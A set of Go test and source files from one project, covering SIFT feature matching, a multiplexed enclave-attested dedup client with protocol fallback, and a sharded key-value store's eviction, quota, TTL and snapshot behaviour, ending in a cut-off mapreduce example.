	matches := MatchDescriptors(a[:], b[:], 0.8)
	for _, m := range matches {
		if m.A == 1 {
			t.Errorf("ambiguous query matched: %+v", m)
		}
	}
	found := false
	for _, m := range matches {
		if m.A == 0 && m.B == 0 && m.Dist == 0 {
			found = true
		}
	}
	if !found {
		t.Error("unambiguous exact match was filtered")
	}
}

func TestMatchEmptySets(t *testing.T) {
	img := blobImage(64, 64, [][2]int{{32, 32}}, 5)
	kps := Detect(img, DefaultParams())
	if got := MatchDescriptors(nil, kps, 0); len(got) != 0 {
		t.Errorf("matches from empty query = %d", len(got))
	}
	if got := MatchDescriptors(kps, nil, 0); len(got) != 0 {
		t.Errorf("matches against empty set = %d", len(got))
	}
}

func TestMatchSingleCandidate(t *testing.T) {
	// With exactly one candidate the ratio test cannot apply; the
	// match is accepted.
	var a, b [1]Keypoint
	for i := range a[0].Descriptor {
		a[0].Descriptor[i] = uint8(i)
		b[0].Descriptor[i] = uint8(i)
	}
	matches := MatchDescriptors(a[:], b[:], 0.8)
	if len(matches) != 1 || matches[0].Dist != 0 {
		t.Errorf("single-candidate match = %v", matches)
	}
}

func TestDescriptorDist2(t *testing.T) {
	var a, b [128]uint8
	if d := descriptorDist2(&a, &b); d != 0 {
		t.Errorf("zero descriptors dist = %d", d)
	}
	b[0] = 3
	b[127] = 4
	if d := descriptorDist2(&a, &b); d != 25 {
		t.Errorf("dist = %d, want 25", d)
	}
}
