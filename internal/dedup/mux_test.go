package dedup

import (
	"errors"
	"fmt"
	"net"
	"sync"
	"testing"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
	"speed/internal/wire"
)

// newMuxEnv is newRemoteEnv with explicit server options and client
// configuration, for exercising specific protocol-version pairings.
func newMuxEnv(t *testing.T, serverOpts []store.ServerOption, cfg RemoteConfig) *remoteEnv {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{})
	appEnc, err := p.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create app: %v", err)
	}
	storeEnc, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store: %v", err)
	}
	st, err := store.New(store.Config{Enclave: storeEnc})
	if err != nil {
		t.Fatalf("store.New: %v", err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	opts := append([]store.ServerOption{store.WithLogf(func(string, ...any) {})}, serverOpts...)
	srv := store.NewServer(st, ln, opts...)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_ = srv.Serve()
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		wg.Wait()
	})

	client, err := DialConfig(ln.Addr().String(), appEnc, storeEnc.Measurement(), cfg)
	if err != nil {
		t.Fatalf("DialConfig: %v", err)
	}
	t.Cleanup(func() { _ = client.Close() })
	return &remoteEnv{platform: p, appEnc: appEnc, storeEnc: storeEnc, store: st, client: client}
}

func TestMuxConcurrentCallersOneConnection(t *testing.T) {
	env := newMuxEnv(t, nil, RemoteConfig{})
	if v := env.client.ProtocolVersion(); v != wire.ProtocolV2 {
		t.Fatalf("ProtocolVersion = %d, want %d", v, wire.ProtocolV2)
	}

	const workers = 16
	const perWorker = 15
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				tag := tagFromString(fmt.Sprintf("w%d-i%d", w, i))
				sealed := mle.Sealed{
					Challenge:  []byte("challenge"),
					WrappedKey: []byte("wrapped"),
					Blob:       []byte(fmt.Sprintf("blob-%d-%d", w, i)),
				}
				if err := env.client.Put(tag, sealed, false); err != nil {
					t.Errorf("Put: %v", err)
					return
				}
				got, found, err := env.client.Get(tag)
				if err != nil {
					t.Errorf("Get: %v", err)
					return
				}
				if !found || string(got.Blob) != string(sealed.Blob) {
					t.Errorf("Get w%d i%d = (found=%v, %q)", w, i, found, got.Blob)
					return
				}
			}
		}(w)
	}
	wg.Wait()

	// All round trips shared the one negotiated connection.
	if r := env.client.Reconnects(); r != 0 {
		t.Errorf("Reconnects = %d, want 0", r)
	}
	if n := env.client.Inflight(); n != 0 {
		t.Errorf("Inflight = %d after all calls returned, want 0", n)
	}
}

func tagFromString(s string) mle.Tag {
	var tag mle.Tag
	copy(tag[:], s)
	return tag
}

func testBatchGetPut(t *testing.T, env *remoteEnv, wantVersion int) {
	t.Helper()
	if v := env.client.ProtocolVersion(); v != wantVersion {
		t.Fatalf("ProtocolVersion = %d, want %d", v, wantVersion)
	}
	const n = 40
	items := make([]wire.PutItem, n)
	for i := range items {
		items[i] = wire.PutItem{
			Tag: tagFromString(fmt.Sprintf("batch-%d", i)),
			Sealed: mle.Sealed{
				Challenge:  []byte("challenge"),
				WrappedKey: []byte("wrapped"),
				Blob:       []byte(fmt.Sprintf("payload-%d", i)),
			},
		}
	}
	prs, err := env.client.PutBatch(items)
	if err != nil {
		t.Fatalf("PutBatch: %v", err)
	}
	if len(prs) != n {
		t.Fatalf("PutBatch returned %d results, want %d", len(prs), n)
	}
	for i, pr := range prs {
		if !pr.OK {
			t.Errorf("PutBatch item %d rejected: %s", i, pr.Err)
		}
	}

	// GET the stored tags plus misses and an intra-batch duplicate,
	// verifying positional alignment.
	tags := make([]mle.Tag, 0, n+3)
	for i := 0; i < n; i++ {
		tags = append(tags, items[i].Tag)
	}
	tags = append(tags, tagFromString("absent-1"), items[7].Tag, tagFromString("absent-2"))
	grs, err := env.client.GetBatch(tags)
	if err != nil {
		t.Fatalf("GetBatch: %v", err)
	}
	if len(grs) != len(tags) {
		t.Fatalf("GetBatch returned %d results, want %d", len(grs), len(tags))
	}
	for i := 0; i < n; i++ {
		if !grs[i].Found || string(grs[i].Sealed.Blob) != fmt.Sprintf("payload-%d", i) {
			t.Errorf("GetBatch[%d] = (found=%v, %q), want payload-%d", i, grs[i].Found, grs[i].Sealed.Blob, i)
		}
	}
	if grs[n].Found || grs[n+2].Found {
		t.Error("GetBatch reported absent tags as found")
	}
	if !grs[n+1].Found || string(grs[n+1].Sealed.Blob) != "payload-7" {
		t.Errorf("GetBatch duplicate position = (found=%v, %q), want payload-7", grs[n+1].Found, grs[n+1].Sealed.Blob)
	}
}

func TestBatchGetPutOverV2(t *testing.T) {
	env := newMuxEnv(t, nil, RemoteConfig{})
	testBatchGetPut(t, env, wire.ProtocolV2)
}

func TestBatchFallsBackToV1Server(t *testing.T) {
	// A v2 client against a v1-only server negotiates down and emulates
	// batch requests as serial loops; callers see identical semantics.
	env := newMuxEnv(t, []store.ServerOption{store.WithMaxProtocol(wire.ProtocolV1)}, RemoteConfig{})
	testBatchGetPut(t, env, wire.ProtocolV1)
}

func TestV1ClientAgainstV2Server(t *testing.T) {
	// A client pinned to v1 keeps the serial discipline against a v2
	// server (the server must not expect envelopes from it).
	env := newMuxEnv(t, nil, RemoteConfig{MaxProtocol: wire.ProtocolV1})
	testBatchGetPut(t, env, wire.ProtocolV1)
}

// hangServer completes the attested v2 handshake and then reads frames
// without ever replying, simulating a wedged store.
func hangServer(t *testing.T, storeEnc *enclave.Enclave) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				ch, err := wire.ServerHandshakeVersion(conn, storeEnc, nil, nil, wire.ProtocolV2)
				if err != nil {
					conn.Close()
					return
				}
				for {
					if _, err := ch.Recv(); err != nil {
						conn.Close()
						return
					}
				}
			}()
		}
	}()
	t.Cleanup(func() { _ = ln.Close() })
	return ln
}

func TestCloseUnblocksInflightWaiters(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	appEnc, _ := p.Create("app", []byte("app code"))
	storeEnc, _ := p.Create("store", []byte("store code"))
	ln := hangServer(t, storeEnc)

	client, err := DialConfig(ln.Addr().String(), appEnc, storeEnc.Measurement(), RemoteConfig{
		RequestTimeout: 30 * time.Second, // far beyond the test deadline
		MaxRetries:     -1,
	})
	if err != nil {
		t.Fatalf("DialConfig: %v", err)
	}

	errs := make(chan error, 4)
	for i := 0; i < 4; i++ {
		go func(i byte) {
			_, _, err := client.Get(testTag(i))
			errs <- err
		}(byte(i))
	}
	waitFor(t, "requests to be in flight", func() bool { return client.Inflight() == 4 })

	if err := client.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	for i := 0; i < 4; i++ {
		select {
		case err := <-errs:
			if !errors.Is(err, errClientClosed) {
				t.Errorf("in-flight Get after Close = %v, want errClientClosed", err)
			}
		case <-time.After(5 * time.Second):
			t.Fatal("Close did not unblock an in-flight waiter")
		}
	}

	// Idempotent, and subsequent requests fail fast with the same error.
	if err := client.Close(); err != nil {
		t.Errorf("second Close = %v, want nil", err)
	}
	if _, _, err := client.Get(testTag(0xFF)); !errors.Is(err, errClientClosed) {
		t.Errorf("Get after Close = %v, want errClientClosed", err)
	}
}

func TestRetryAccountingDeterministic(t *testing.T) {
	// Against an address nobody listens on, a lazy client's request
	// makes exactly 1+MaxRetries dial attempts; the counters must agree
	// and no redial may be recorded as successful.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	addr := ln.Addr().String()
	ln.Close()

	p := enclave.NewPlatform(enclave.Config{})
	appEnc, _ := p.Create("app", []byte("app code"))
	storeEnc, _ := p.Create("store", []byte("store code"))
	client, err := DialConfig(addr, appEnc, storeEnc.Measurement(), RemoteConfig{
		Lazy:         true,
		DialTimeout:  100 * time.Millisecond,
		MaxRetries:   2,
		RetryBackoff: time.Millisecond,
	})
	if err != nil {
		t.Fatalf("DialConfig: %v", err)
	}
	defer client.Close()

	if _, _, err := client.Get(testTag(1)); err == nil {
		t.Fatal("Get against dead address succeeded")
	}
	if r := client.Retries(); r != 2 {
		t.Errorf("Retries = %d, want 2", r)
	}
	if r := client.Reconnects(); r != 0 {
		t.Errorf("Reconnects = %d, want 0 (no dial succeeded)", r)
	}
	if n := client.Inflight(); n != 0 {
		t.Errorf("Inflight = %d, want 0", n)
	}
}

// reorderServer is a raw v2 peer that collects two requests and answers
// them in reverse arrival order, then answers a third with a bogus
// request ID first and a duplicate reply after — the client mux must
// correlate by ID, drop unknown IDs and tolerate duplicates.
func TestMuxCorrelatesOutOfOrderResponses(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	appEnc, _ := p.Create("app", []byte("app code"))
	storeEnc, _ := p.Create("store", []byte("store code"))

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	defer ln.Close()
	serverErr := make(chan error, 1)
	go func() {
		serverErr <- func() error {
			conn, err := ln.Accept()
			if err != nil {
				return err
			}
			defer conn.Close()
			ch, err := wire.ServerHandshakeVersion(conn, storeEnc, nil, nil, wire.ProtocolV2)
			if err != nil {
				return err
			}
			type req struct {
				id  uint64
				tag mle.Tag
			}
			var reqs []req
			for len(reqs) < 2 {
				frame, err := ch.Recv()
				if err != nil {
					return err
				}
				id, _, msg, err := ch.ParseEnvelope(frame)
				if err != nil {
					return err
				}
				gr, ok := msg.(wire.GetRequest)
				if !ok {
					return fmt.Errorf("unexpected %v", msg.Kind())
				}
				reqs = append(reqs, req{id, gr.Tag})
			}
			// Answer in reverse order; each response's blob names its
			// request's tag so misrouting is detectable.
			for i := len(reqs) - 1; i >= 0; i-- {
				resp := wire.GetResponse{Found: true, Sealed: mle.Sealed{
					Challenge:  []byte("challenge"),
					WrappedKey: []byte("wrapped"),
					Blob:       []byte{reqs[i].tag[0]},
				}}
				if err := ch.SendEnvelope(reqs[i].id, resp); err != nil {
					return err
				}
			}
			// Third request: send a reply under an unknown ID, a
			// duplicate of the real reply, then the real reply again
			// (which by then is itself an unknown ID and must be
			// dropped).
			frame, err := ch.Recv()
			if err != nil {
				return err
			}
			id, _, _, err := ch.ParseEnvelope(frame)
			if err != nil {
				return err
			}
			bogus := wire.GetResponse{Found: false}
			real := wire.GetResponse{Found: true, Sealed: mle.Sealed{
				Challenge:  []byte("challenge"),
				WrappedKey: []byte("wrapped"),
				Blob:       []byte("third"),
			}}
			if err := ch.SendEnvelope(id^0xDEAD, bogus); err != nil {
				return err
			}
			if err := ch.SendEnvelope(id, real); err != nil {
				return err
			}
			if err := ch.SendEnvelope(id, bogus); err != nil {
				return err
			}
			// Hold the connection open until the client is done.
			_, _ = ch.Recv()
			return nil
		}()
	}()

	client, err := DialConfig(ln.Addr().String(), appEnc, storeEnc.Measurement(), RemoteConfig{
		RequestTimeout: 5 * time.Second,
		MaxRetries:     -1,
	})
	if err != nil {
		t.Fatalf("DialConfig: %v", err)
	}
	defer client.Close()

	type result struct {
		tag    mle.Tag
		sealed mle.Sealed
		found  bool
		err    error
	}
	results := make(chan result, 2)
	launch := func(tag mle.Tag) {
		sealed, found, err := client.Get(tag)
		results <- result{tag, sealed, found, err}
	}
	go launch(testTag(0x0A))
	waitFor(t, "first request in flight", func() bool { return client.Inflight() == 1 })
	go launch(testTag(0x0B))

	for i := 0; i < 2; i++ {
		r := <-results
		if r.err != nil {
			t.Fatalf("Get %x: %v", r.tag[0], r.err)
		}
		if !r.found || len(r.sealed.Blob) != 1 || r.sealed.Blob[0] != r.tag[0] {
			t.Errorf("Get %x routed wrong response (blob %x)", r.tag[0], r.sealed.Blob)
		}
	}

	sealed, found, err := client.Get(testTag(0x0C))
	if err != nil {
		t.Fatalf("third Get: %v", err)
	}
	if !found || string(sealed.Blob) != "third" {
		t.Errorf("third Get = (found=%v, %q), want the real reply despite unknown/duplicate IDs", found, sealed.Blob)
	}
}
