package store

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"
)

func TestShardCountRoundsToPowerOfTwo(t *testing.T) {
	tests := []struct {
		shards, want int
	}{
		{0, defaultShards},
		{1, 1},
		{2, 2},
		{3, 4},
		{7, 8},
		{8, 8},
		{9, 16},
		{200, 256},
		{10_000, maxShards},
	}
	for _, tt := range tests {
		s := testStore(t, Config{Shards: tt.shards})
		if got := s.ShardCount(); got != tt.want {
			t.Errorf("Shards=%d: ShardCount = %d, want %d", tt.shards, got, tt.want)
		}
		s.Close()
	}
}

func TestShardedStatsConsistent(t *testing.T) {
	// Entries land across many shards; the Stats snapshot must agree
	// with per-operation expectations regardless of shard placement.
	s := testStore(t, Config{Shards: 16})
	defer s.Close()
	owner := ownerOf("app")

	const n = 200
	for i := 0; i < n; i++ {
		tag := tagOf(fmt.Sprintf("k%d", i))
		if _, err := s.Put(owner, tag, sealedOf(fmt.Sprintf("v%d", i))); err != nil {
			t.Fatalf("Put %d: %v", i, err)
		}
	}
	hits := 0
	for i := 0; i < n; i++ {
		_, found, err := s.Get(tagOf(fmt.Sprintf("k%d", i)))
		if err != nil {
			t.Fatalf("Get %d: %v", i, err)
		}
		if found {
			hits++
		}
	}
	if hits != n {
		t.Fatalf("hits = %d, want %d", hits, n)
	}
	st := s.Stats()
	if st.Puts != n || st.Gets != n || st.Hits != n {
		t.Errorf("Stats = puts %d gets %d hits %d, want %d each", st.Puts, st.Gets, st.Hits, n)
	}
	if st.Entries != n {
		t.Errorf("Stats.Entries = %d, want %d", st.Entries, n)
	}
	if s.Len() != n {
		t.Errorf("Len = %d, want %d", s.Len(), n)
	}

	// Every shard's gauge must sum to the entry count.
	total := 0
	spread := 0
	for _, sh := range s.memShards() {
		sh.mu.Lock()
		total += len(sh.dict)
		if len(sh.dict) > 0 {
			spread++
		}
		sh.mu.Unlock()
	}
	if total != n {
		t.Errorf("sum of shard sizes = %d, want %d", total, n)
	}
	if spread < 2 {
		t.Errorf("entries landed in %d shard(s); hashing is not spreading", spread)
	}
}

func TestShardedEvictionIsGloballyLRU(t *testing.T) {
	// MaxEntries is a global bound: with entries spread over shards, the
	// evicted entries must be the globally least-recently-used ones, not
	// whichever entry is cold within an arbitrary shard.
	s := testStore(t, Config{Shards: 8, MaxEntries: 8})
	defer s.Close()
	owner := ownerOf("app")

	// Fill to capacity, then touch the first half so the second half is
	// the cold end of the global LRU order.
	for i := 0; i < 8; i++ {
		if _, err := s.Put(owner, tagOf(fmt.Sprintf("k%d", i)), sealedOf("v")); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	for i := 0; i < 4; i++ {
		if _, found, _ := s.Get(tagOf(fmt.Sprintf("k%d", i))); !found {
			t.Fatalf("warm Get k%d missed", i)
		}
	}
	// Each insert now evicts exactly one entry, which must come from the
	// cold half.
	for i := 8; i < 12; i++ {
		if _, err := s.Put(owner, tagOf(fmt.Sprintf("k%d", i)), sealedOf("v")); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	if got := s.Len(); got != 8 {
		t.Fatalf("Len = %d, want 8", got)
	}
	for i := 0; i < 4; i++ {
		if _, found, _ := s.Get(tagOf(fmt.Sprintf("k%d", i))); !found {
			t.Errorf("recently-touched k%d was evicted before cold entries", i)
		}
	}
	cold := 0
	for i := 4; i < 8; i++ {
		if _, found, _ := s.Get(tagOf(fmt.Sprintf("k%d", i))); found {
			cold++
		}
	}
	if cold != 0 {
		t.Errorf("%d cold entries survived; eviction is not globally LRU", cold)
	}
	if st := s.Stats(); st.Evictions != 4 {
		t.Errorf("Evictions = %d, want 4", st.Evictions)
	}
}

func TestShardedTTLExpiry(t *testing.T) {
	s := testStore(t, Config{Shards: 8, TTL: 10 * time.Millisecond})
	defer s.Close()
	owner := ownerOf("app")
	const n = 32
	for i := 0; i < n; i++ {
		if _, err := s.Put(owner, tagOf(fmt.Sprintf("k%d", i)), sealedOf("v")); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	time.Sleep(25 * time.Millisecond)
	if removed := s.ExpireNow(); removed != n {
		t.Errorf("ExpireNow = %d, want %d", removed, n)
	}
	if got := s.Len(); got != 0 {
		t.Errorf("Len after expiry = %d, want 0", got)
	}
	if st := s.Stats(); st.Expired != n {
		t.Errorf("Stats.Expired = %d, want %d", st.Expired, n)
	}
}

func TestShardedQuotaUnderConcurrency(t *testing.T) {
	// A per-app byte quota is global accounting; concurrent PUTs across
	// shards must never overshoot it.
	s := testStore(t, Config{
		Shards: 16,
		Quota:  QuotaConfig{MaxBytesPerApp: 2_000},
	})
	defer s.Close()
	owner := ownerOf("app")

	const workers = 8
	const perWorker = 40
	var wg sync.WaitGroup
	var mu sync.Mutex
	accepted := 0
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				_, err := s.Put(owner, tagOf(fmt.Sprintf("w%d-k%d", w, i)), sealedOf("0123456789abcdef0123456789abcdef"))
				if err == nil {
					mu.Lock()
					accepted++
					mu.Unlock()
				} else if !errors.Is(err, ErrQuota) {
					t.Errorf("Put: %v", err)
				}
			}
		}(w)
	}
	wg.Wait()

	st := s.Stats()
	if st.BlobBytes > 2_000 {
		t.Errorf("BlobBytes = %d, exceeds 2000-byte quota", st.BlobBytes)
	}
	if accepted == 0 || st.PutDenied == 0 {
		t.Errorf("accepted = %d, denied = %d; want both non-zero", accepted, st.PutDenied)
	}
	if int(st.Puts) != accepted {
		t.Errorf("Stats.Puts = %d, want %d", st.Puts, accepted)
	}
}

func TestShardedConcurrentMixedOps(t *testing.T) {
	// Hammer one sharded store with concurrent GET/PUT/Stats/Len from
	// many goroutines; run under -race via `make check`.
	s := testStore(t, Config{Shards: 4, MaxEntries: 64})
	defer s.Close()
	owner := ownerOf("app")

	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				key := fmt.Sprintf("k%d", (w*13+i)%96)
				switch i % 3 {
				case 0:
					if _, err := s.Put(owner, tagOf(key), sealedOf(key)); err != nil {
						t.Errorf("Put: %v", err)
					}
				case 1:
					if _, _, err := s.Get(tagOf(key)); err != nil {
						t.Errorf("Get: %v", err)
					}
				default:
					_ = s.Stats()
					_ = s.Len()
				}
			}
		}(w)
	}
	wg.Wait()
	if got := s.Len(); got > 64 {
		t.Errorf("Len = %d, exceeds MaxEntries 64", got)
	}
	st := s.Stats()
	if st.Entries != s.Len() {
		t.Errorf("Stats.Entries = %d, Len = %d; want equal at rest", st.Entries, s.Len())
	}
}

func TestObliviousLookupsAcrossShards(t *testing.T) {
	// Oblivious mode must still find entries in any shard (the scan
	// covers all shards) and keep counters on the home shard.
	s := testStore(t, Config{Shards: 8, Oblivious: true})
	defer s.Close()
	owner := ownerOf("app")
	const n = 24
	for i := 0; i < n; i++ {
		if _, err := s.Put(owner, tagOf(fmt.Sprintf("k%d", i)), sealedOf(fmt.Sprintf("v%d", i))); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	for i := 0; i < n; i++ {
		sealed, found, err := s.Get(tagOf(fmt.Sprintf("k%d", i)))
		if err != nil {
			t.Fatalf("Get: %v", err)
		}
		if !found {
			t.Fatalf("oblivious Get k%d missed", i)
		}
		if string(sealed.Blob) != fmt.Sprintf("v%d", i) {
			t.Fatalf("oblivious Get k%d returned wrong blob", i)
		}
	}
	if _, found, _ := s.Get(tagOf("absent")); found {
		t.Error("oblivious Get found an absent tag")
	}
	st := s.Stats()
	if st.Gets != n+1 || st.Hits != n {
		t.Errorf("Stats = gets %d hits %d, want %d/%d", st.Gets, st.Hits, n+1, n)
	}
}

func TestSnapshotRoundTripAcrossShardCounts(t *testing.T) {
	// A snapshot sealed by a store with one shard geometry must restore
	// into a store with a different geometry: the format is
	// shard-agnostic.
	p := testEnclave(t)
	src := testStore(t, Config{Enclave: p, Shards: 16})
	owner := ownerOf("app")
	const n = 40
	for i := 0; i < n; i++ {
		if _, err := src.Put(owner, tagOf(fmt.Sprintf("k%d", i)), sealedOf(fmt.Sprintf("v%d", i))); err != nil {
			t.Fatalf("Put: %v", err)
		}
	}
	snap, err := src.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}
	src.Close()

	dst := testStore(t, Config{Enclave: p, Shards: 2})
	defer dst.Close()
	restored, err := dst.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if restored != n {
		t.Fatalf("restored %d entries, want %d", restored, n)
	}
	for i := 0; i < n; i++ {
		sealed, found, err := dst.Get(tagOf(fmt.Sprintf("k%d", i)))
		if err != nil || !found {
			t.Fatalf("Get k%d after restore: found=%v err=%v", i, found, err)
		}
		if string(sealed.Blob) != fmt.Sprintf("v%d", i) {
			t.Fatalf("Get k%d returned wrong blob after restore", i)
		}
	}
}
