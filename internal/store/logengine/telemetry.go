package logengine

import (
	storeengine "speed/internal/store/engine"
	"speed/internal/telemetry"
)

// RegisterTelemetry adds the log engine's activity and occupancy
// series, all labeled engine="log" so dashboards distinguish them from
// the memory engine's shard gauges. Store.registerTelemetry calls this
// through the optional-interface hook.
func (e *Engine) RegisterTelemetry(reg *telemetry.Registry) {
	lbl := telemetry.L("engine", "log")
	counter := func(name, help string, field func(storeengine.Stats) int64) {
		reg.NewCounterFunc(name, help, func() int64 { return field(e.Stats()) }, lbl)
	}
	gauge := func(name, help string, field func(storeengine.Stats) float64) {
		reg.NewGaugeFunc(name, help, func() float64 { return field(e.Stats()) }, lbl)
	}
	counter("speed_store_engine_wal_records_total", "records appended to the write-ahead log",
		func(st storeengine.Stats) int64 { return st.WALRecords })
	counter("speed_store_engine_flushes_total", "memtable flushes to sorted segments",
		func(st storeengine.Stats) int64 { return st.Flushes })
	counter("speed_store_engine_compactions_total", "completed segment compactions",
		func(st storeengine.Stats) int64 { return st.Compactions })
	counter("speed_store_engine_cache_hits_total", "lookups served by the in-enclave tier",
		func(st storeengine.Stats) int64 { return st.CacheHits })
	counter("speed_store_engine_cache_misses_total", "lookups that consulted segment files",
		func(st storeengine.Stats) int64 { return st.CacheMisses })
	gauge("speed_store_engine_wal_bytes", "current write-ahead-log length",
		func(st storeengine.Stats) float64 { return float64(st.WALBytes) })
	gauge("speed_store_engine_segments", "immutable segment files",
		func(st storeengine.Stats) float64 { return float64(st.Segments) })
	gauge("speed_store_engine_segment_bytes", "total on-disk segment size",
		func(st storeengine.Stats) float64 { return float64(st.SegmentBytes) })
}
