// Package mle mirrors the MLE envelope shape the sealflow analyzer
// treats as a taint source: a Sealed value's Challenge and WrappedKey
// fields are in-enclave dictionary secrets, Blob is AEAD ciphertext.
package mle

type Sealed struct {
	Challenge  []byte
	WrappedKey []byte
	Blob       []byte
}

// Encrypt stands in for the RCE sealing primitive (a sanitizer by
// name): its result is ciphertext whatever went in.
func Encrypt(b []byte) []byte { return b }
