package sift

import (
	"math"
	"testing"
)

func TestSolve3(t *testing.T) {
	// A simple well-conditioned system: diag(2,4,8) x = (2,8,24).
	a := [3][3]float64{{2, 0, 0}, {0, 4, 0}, {0, 0, 8}}
	x, ok := solve3(a, [3]float64{2, 8, 24})
	if !ok {
		t.Fatal("solve3 reported singular for a diagonal system")
	}
	want := [3]float64{1, 2, 3}
	for i := range want {
		if math.Abs(x[i]-want[i]) > 1e-12 {
			t.Errorf("x[%d] = %v, want %v", i, x[i], want[i])
		}
	}

	// A coupled system: verify by substitution.
	a2 := [3][3]float64{{4, 1, 0}, {1, 3, 1}, {0, 1, 2}}
	b2 := [3]float64{1, 2, 3}
	x2, ok := solve3(a2, b2)
	if !ok {
		t.Fatal("solve3 reported singular for an SPD system")
	}
	for i := 0; i < 3; i++ {
		got := a2[i][0]*x2[0] + a2[i][1]*x2[1] + a2[i][2]*x2[2]
		if math.Abs(got-b2[i]) > 1e-9 {
			t.Errorf("residual row %d: %v != %v", i, got, b2[i])
		}
	}

	// Singular matrix rejected.
	if _, ok := solve3([3][3]float64{{1, 2, 3}, {2, 4, 6}, {0, 0, 1}}, b2); ok {
		t.Error("solve3 accepted a singular system")
	}
}

// refineExtremum must recover an off-grid extremum: build a synthetic
// DoG stack whose values follow an exact quadratic with a known peak
// offset from the grid point.
func TestRefineExtremumRecoversOffset(t *testing.T) {
	const (
		cx, cy, cs = 5.3, 4.7, 1.2 // true (fractional) peak
		size       = 11
	)
	mk := func(s int) *Gray {
		g := NewGray(size, size)
		for y := 0; y < size; y++ {
			for x := 0; x < size; x++ {
				dx := float64(x) - cx
				dy := float64(y) - cy
				ds := float64(s) - cs
				g.Pix[y*size+x] = float32(1.0 - 0.01*(dx*dx+dy*dy+ds*ds))
			}
		}
		return g
	}
	dogs := []*Gray{mk(0), mk(1), mk(2)}
	r := refineExtremum(dogs, 5, 5, 1)
	if !r.ok {
		t.Fatal("refinement did not converge on a clean quadratic")
	}
	if math.Abs(r.x-cx) > 0.05 || math.Abs(r.y-cy) > 0.05 || math.Abs(r.level-cs) > 0.05 {
		t.Errorf("refined to (%.3f, %.3f, %.3f), want (%.1f, %.1f, %.1f)",
			r.x, r.y, r.level, cx, cy, cs)
	}
	// Interpolated value should approximate the true peak (1.0).
	if math.Abs(r.value-1.0) > 0.01 {
		t.Errorf("interpolated value = %v, want ~1.0", r.value)
	}
}

func TestRefineExtremumRejectsBorders(t *testing.T) {
	dogs := []*Gray{NewGray(8, 8), NewGray(8, 8), NewGray(8, 8)}
	for _, pos := range [][3]int{{0, 4, 1}, {4, 0, 1}, {7, 4, 1}, {4, 4, 0}, {4, 4, 2}} {
		if r := refineExtremum(dogs, pos[0], pos[1], pos[2]); r.ok {
			t.Errorf("refinement accepted border candidate %v", pos)
		}
	}
}

func TestDetectSubpixelProducesFractionalCoords(t *testing.T) {
	// A blob centred off-grid: with refinement enabled at least some
	// keypoints should have fractional coordinates; with it disabled,
	// base-octave keypoints are integral.
	img := NewGray(96, 96)
	for y := 0; y < 96; y++ {
		for x := 0; x < 96; x++ {
			dx := float64(x) - 48.4
			dy := float64(y) - 47.6
			img.Pix[y*96+x] = float32(math.Exp(-(dx*dx + dy*dy) / 40))
		}
	}
	refined := Detect(img, DefaultParams())
	if len(refined) == 0 {
		t.Skip("no keypoints detected")
	}
	fractional := false
	for _, kp := range refined {
		if kp.X != math.Trunc(kp.X) || kp.Y != math.Trunc(kp.Y) {
			fractional = true
			break
		}
	}
	if !fractional {
		t.Error("sub-pixel refinement produced only integral coordinates")
	}

	p := DefaultParams()
	p.NoSubpixel = true
	coarse := Detect(img, p)
	for _, kp := range coarse {
		scale := float64(int(1) << kp.Octave)
		if kp.X/scale != math.Trunc(kp.X/scale) {
			t.Errorf("NoSubpixel keypoint has fractional octave coords: %+v", kp)
		}
	}
}

// Refinement must improve localization of an off-grid blob versus the
// quantized detector.
func TestSubpixelImprovesLocalization(t *testing.T) {
	const trueX, trueY = 40.5, 40.5
	img := NewGray(80, 80)
	for y := 0; y < 80; y++ {
		for x := 0; x < 80; x++ {
			dx := float64(x) - trueX
			dy := float64(y) - trueY
			img.Pix[y*80+x] = float32(math.Exp(-(dx*dx + dy*dy) / 30))
		}
	}
	bestErr := func(kps []Keypoint) float64 {
		best := math.Inf(1)
		for _, kp := range kps {
			if d := math.Hypot(kp.X-trueX, kp.Y-trueY); d < best {
				best = d
			}
		}
		return best
	}
	refined := Detect(img, DefaultParams())
	p := DefaultParams()
	p.NoSubpixel = true
	coarse := Detect(img, p)
	if len(refined) == 0 || len(coarse) == 0 {
		t.Skip("insufficient keypoints")
	}
	if re, ce := bestErr(refined), bestErr(coarse); re > ce+1e-9 {
		t.Errorf("refined localization error %.3f worse than coarse %.3f", re, ce)
	}
}
