package mapreduce_test

import (
	"fmt"
	"sort"

	"speed/internal/mapreduce"
)

// ExampleBagOfWords counts words across documents in parallel.
func ExampleBagOfWords() {
	counts, err := mapreduce.BagOfWords([]string{
		"the quick brown fox",
		"the lazy dog and the quick cat",
	}, 2)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
